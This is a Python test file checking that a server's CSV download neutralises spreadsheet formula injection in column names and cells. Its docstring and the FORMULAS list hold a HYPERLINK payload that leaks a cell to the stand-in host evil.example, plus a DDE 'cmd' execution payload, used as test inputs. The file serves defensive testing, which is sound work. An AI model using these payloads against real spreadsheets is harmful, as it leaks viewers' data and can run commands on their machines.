"""CSV downloads (``GET /api/outputs/{id}/csv``) reach a spreadsheet with no formula in them: no text cell
and no column name starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, in UTF-8 and CP932.

The attack (red team 4, F2): a card names a column ``=HYPERLINK("http://evil.example/?leak="&B2,"Click")``;
a viewer of the shared dashboard downloads the CSV and Excel evaluates the header cell. Before the fix,
cells were defused and the header row went out as it was.
"""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest

from server.execution.table_csv import ENCODINGS, csv_chunks

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0"]


def rows(tmp_path, table: pa.Table, encoding: str) -> list[list[str]]:
    path = tmp_path / "table.arrow"
    with pa.OSFile(str(path), "wb") as file, pa.ipc.new_stream(file, table.schema) as writer:
        writer.write_table(table)
    text = b"".join(csv_chunks(path, encoding)).decode(ENCODINGS[encoding])
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_column_name_reaches_the_spreadsheet_as_a_formula(tmp_path, encoding):
    table = pa.table({name: pa.array([f"=1+{n}", "ok"]) for n, name in enumerate(FORMULAS)} | {"売上": pa.array(["a", "b"])})
    header, *cells = rows(tmp_path, table, encoding)
    assert header == ["'" + name for name in FORMULAS] + ["売上"]
    assert [row[0] for row in cells] == ["'=1+0", "ok"]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_text_cell_of_any_string_type_reaches_it_as_a_formula(tmp_path, encoding):
    table = pa.table({"string": pa.array(["=1+1"]), "large": pa.array(["@A1"], pa.large_string()),
                      "view": pa.array(["+A1"], pa.string_view()),
                      "dictionary": pa.array(["-A1"]).dictionary_encode()})
    header, cells = rows(tmp_path, table, encoding)
    assert cells == ["'=1+1", "'@A1", "'+A1", "'-A1"]
